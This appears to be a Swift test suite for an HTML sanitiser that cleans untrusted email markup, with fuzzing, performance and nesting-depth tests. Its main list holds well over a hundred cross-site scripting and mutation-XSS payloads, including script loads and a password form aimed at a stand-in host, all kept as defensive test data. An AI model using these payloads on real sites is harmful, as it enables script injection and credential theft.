import HTML
import SeedTestSupport
import Testing

@Suite("A stranger's HTML is made safe")
struct SafeHTMLTests {
    private func clean(_ html: String) -> String { SafeHTML.clean(html).markup }

    @Test(
        "What only shapes the words stays",
        arguments: [
            ("<p>Hi <b>there</b>,<br>you</p>", "<p>Hi <b>there</b>,<br>you</p>"),
            ("<P ALIGN=Center>x</P>", "<p align=\"center\">x</p>"),
            (
                "<a href=\"https://x.example/a?b=1&amp;c=2\" onclick=steal()>go</a>",
                "<a href=\"https://x.example/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">"
                    + "go</a>"
            ),
            ("<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"),
            ("<p>one<p>two", "<p>one</p><p>two</p>"),
            (
                "<table border=1><tr><td>a<td colspan=2>b<tr><td>c</table>",
                "<table border=\"1\"><tr><td>a</td><td colspan=\"2\">b</td></tr><tr><td>c</td></tr></table>"
            ),
            ("<b><i>x</b>y</i>", "<b><i>x</i></b>y"),
            ("a < b && c > d", "a &lt; b &amp;&amp; c &gt; d"), ("&nbsp;&copy;&#8217;&#x2019;", "&nbsp;&copy;’’"),
            (
                "<span style=\"COLOR: red; font-family:'Segoe UI', Arial\">x</span>",
                "<span style=\"color:red;font-family:'Segoe UI', Arial\">x</span>"
            ),
            ("<font color=#ff0000 size=+1>x</font>", "<font color=\"#ff0000\" size=\"+1\">x</font>"),
            ("<pre>a\n b</pre>", "<pre>a\n b</pre>"), ("<!-- no --><p>x", "<p>x</p>"),
            ("<!--[if mso]><p>Outlook<![endif]-->y", "y"), ("<![if !mso]>y<![endif]>", "y"),
        ])
    func keeps(source: String, expected: String) {
        #expect(clean(source) == expected)
    }

    @Test("Pictures of the mail are shown, pictures elsewhere are named and not fetched, counters vanish")
    func pictures() {
        let page = """
            <img src="cid:logo" alt="The logo" width=20><img src="https://spy.example/p.png" alt="Sale">\
            <img src="https://spy.example/t.gif" width=1 height=1><img src="data:image/png;base64,iVBORw0=">\
            <img src="data:image/svg+xml;base64,PHN2Zz4=" alt="drawing"><img src="javascript:x()">
            """
        let cleaned = SafeHTML.clean(page) { $0 == "cid:logo" ? "/files/1" : nil }.markup
        #expect(
            cleaned == """
                <img src="/files/1" alt="The logo" width="20">\
                <span class="remote-picture" title="https://spy.example/p.png">Sale</span>\
                <img src="data:image/png;base64,iVBORw0=" alt="">\
                <span class="remote-picture" title="">drawing</span><span class="remote-picture" title=""></span>
                """)
    }

    /// Attempts to get a script, a request or a form into a page.
    static let attacks: [String] = [
        "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
        "<script/xss src=x></script>", "<script>alert(1)//</script\n>", "<script>a</scripta>alert(1)</script>",
        "<<script>alert(1);//<</script>", "<script src=//x.example/x.js?<b>", "</title><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"x\" onerror=\"alert(1)\"//>", "<img/src=x/onerror=alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">", "<img src=`x`onerror=alert(1)>", "<img onerror=alert(1) src=x:y>",
        "<img src=javascript:alert(1)>", "<img src=JaVaScRiPt:alert(1)>", "<img src=&#106;&#97;vascript:alert(1)>",
        "<img src=\"jav&#x09;ascript:alert(1)\">", "<img src=\" &#14; javascript:alert(1)\">",
        "<img lowsrc=javascript:alert(1)>", "<img dynsrc=javascript:alert(1)>", "<img srcset='x 1x, //x.example 2x'>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\0script:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=vbscript:x>x</a>",
        "<a href=\"//x.example\">x</a>", "<a href=\"/sign-out\">x</a>", "<a href=\"https:/\\x\">x</a>",
        "<a href=\"javascript://%0aalert(1)\">x</a>", "<a href='x' onmouseover=\"alert(1)\">x</a>",
        "<a href=\"https://x.example\"onmouseover=alert(1)>x</a>", "<a\u{0C}href=javascript:alert(1)>x</a>",
        "<a href=https://x.example/\"onmouseover=alert(1)//>x</a>", "<b onmouseover=alert(1)>x</b>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p style=\"background-image:url(//x.example)\">x</p>",
        "<p style=\"width:expression(alert(1))\">x</p>", "<p style=\"behavior:url(#default#time2)\">x</p>",
        "<p style=\"-moz-binding:url(//x.example)\">x</p>", "<p style=\"color:red;}body{display:none\">x</p>",
        "<p style=\"background:\\75rl(//x.example)\">x</p>", "<p style=\"background:u/**/rl(//x.example)\">x</p>",
        "<p style='background:image-set(\"//x.example\" 1x)'>x</p>", "<p style='content:\"x\"'>x</p>",
        "<p style=\"position:fixed;top:0\">x</p>", "<style>@import '//x.example/x.css';</style>x",
        "<style>body{background:url(//x.example)}</style>", "<link rel=stylesheet href=//x.example/x.css>",
        "<link rel=import href=//x.example>", "<base href=//x.example/>",
        "<meta http-equiv=refresh content='0;url=//x.example'>",
        "<meta http-equiv=Content-Security-Policy content=x>", "<iframe src=//x.example></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<frameset><frame src=//x.example></frameset>",
        "<object data=//x.example></object>", "<embed src=//x.example>", "<applet code=x>", "<param name=x>",
        "<form action=//x.example><input name=password><button>Sign in</button></form>",
        "<input autofocus onfocus=alert(1)>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1)>",
        "<select autofocus onfocus=alert(1)>", "<textarea><script>alert(1)</script></textarea>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<svg><use href='data:x'></svg>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>", "<plaintext><script>alert(1)",
        "<!--><script>alert(1)</script>-->", "<!---><script>alert(1)</script>-->",
        "<!-- --!><img src=x onerror=alert(1)>-->",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
        "<?xml version=1?><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
        "<!<script>alert(1)</script>",
        "</<script>alert(1)</script>", "</a onmouseover=alert(1)>", "<x onclick=alert(1)>x</x>",
        "<x:script>alert(1)</x:script>",
        "<template><script>alert(1)</script></template>", "<details ontoggle=alert(1) open>x</details>",
        "<video><source onerror=alert(1)></video>", "<video poster=//x.example>",
        "<audio src=//x.example onerror=alert(1)>",
        "<body background=//x.example onload=alert(1)>", "<table background=//x.example><td background=//x.example>x",
        "<marquee onstart=alert(1)>x</marquee>", "<bgsound src=//x.example>", "<layer src=//x.example>",
        "<div id=desk name=desk class=buttons>x</div>", "<a name=x id=y href=#x>x</a>",
        "<p contenteditable onfocus=alert(1)>",
        "<a ping=//x.example href=https://x.example>x</a>", "<a href=https://x.example target=_self rel=opener>x</a>",
        "<a href=blob:https://x.example/1>x</a>", "<a href=file:///etc/passwd>x</a>",
        "<a href=feed:javascript:alert(1)>x</a>",
        "<p title='\"><script>alert(1)</script>'>x</p>", "<p title=\"&quot;><script>alert(1)</script>\">x</p>",
        "<p title=`&quot;onclick=alert(1)`>x</p>", "<font face=\"x;background:url(//x.example)\">x</font>",
        "<table><caption><svg><title><style><img src=x onerror=alert(1)></style></title></svg></caption></table>",
        "<b <script>alert(1)</script>>0", "<div style=\"color:red\" style=\"background:url(//x.example)\">x</div>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u{FF1C}script\u{FF1E}alert(1)", "<img src=cid:x onload=alert(1)>", "<tr><td><script>alert(1)</script>",
        "<li style=list-style-image:url(//x.example)>x", "<q cite=javascript:alert(1)>x</q>", "<a href=tel:>x</a>",
        "<p lang=\"x onclick=alert(1)\">x</p>", "<hr size=\"1 onclick=alert(1)\">",
        "<td nowrap=\"x\" onclick=alert(1)>",
    ]

    @Test("Nothing runs, fetches or sends, whatever is tried", arguments: attacks)
    func attack(source: String) throws {
        for html in [source, "<p>a" + source, "<table><tr><td>" + source, source + source, "<b title='" + source] {
            let cleaned = clean(html)
            try Innocence.check(cleaned)
            #expect(clean(cleaned) == cleaned)
        }
    }

    @Test("Cleaning what was damaged at random is safe, changes nothing twice, and ends", arguments: 1...6)
    func mutated(seed: Int) throws {
        var random = Seed(seed)
        for _ in 0..<150 {
            var bytes: [UInt8] = []
            for _ in 0..<Int.random(in: 1...6, using: &random) {
                bytes += Array((Self.attacks.randomElement(using: &random) ?? "").utf8)
            }
            for _ in 0..<Int.random(in: 0...8, using: &random) where !bytes.isEmpty {
                let place = Int.random(in: 0..<bytes.count, using: &random)
                switch Int.random(in: 0..<4, using: &random) {
                case 0: bytes.remove(at: place)
                case 1: bytes.insert(Array("<>\"'`=/&;# \0\t-!".utf8).randomElement(using: &random) ?? 0, at: place)
                case 2: bytes[place] = .random(in: 0...255, using: &random)
                default: bytes.insert(contentsOf: "<p><table><td><li><b>".utf8, at: place)
                }
            }
            let source = String(decoding: bytes, as: UTF8.self)
            let cleaned = clean(source)
            try Innocence.check(cleaned)
            #expect(clean(cleaned) == cleaned, "\(random) \(source.debugDescription)")
        }
    }

    @Test(
        "A long page of any one thing takes time in proportion",
        arguments: [
            "<", "<a ", "<a href=\"", "<b>", "<!--", "<style>", "<p>", "<li>", "</b>", "&", "&#", "<table><td>",
            "<a href=http://x>",
            "<img src=x>", "<b title='", "</", "<td></table>", "a=b ", "<p style='color:red;", "<script></scrip",
            "<b a ", "--",
        ])
    func hostile(piece: String) throws {
        let html = String(repeating: piece, count: 100_000 / piece.utf8.count)
        let started = ContinuousClock.now
        let cleaned = clean(html)
        #expect(ContinuousClock.now - started < .seconds(20))
        #expect(cleaned.utf8.count <= 6 * html.utf8.count + 10_000)
    }

    @Test("Elements are nested to a limit, and what is deeper stays to be read")
    func depth() {
        let cleaned = clean(String(repeating: "<div>", count: 5_000) + "deep")
        #expect(cleaned.contains("deep"))
        #expect(cleaned.split(separator: "<div>").count <= 200)
    }
}
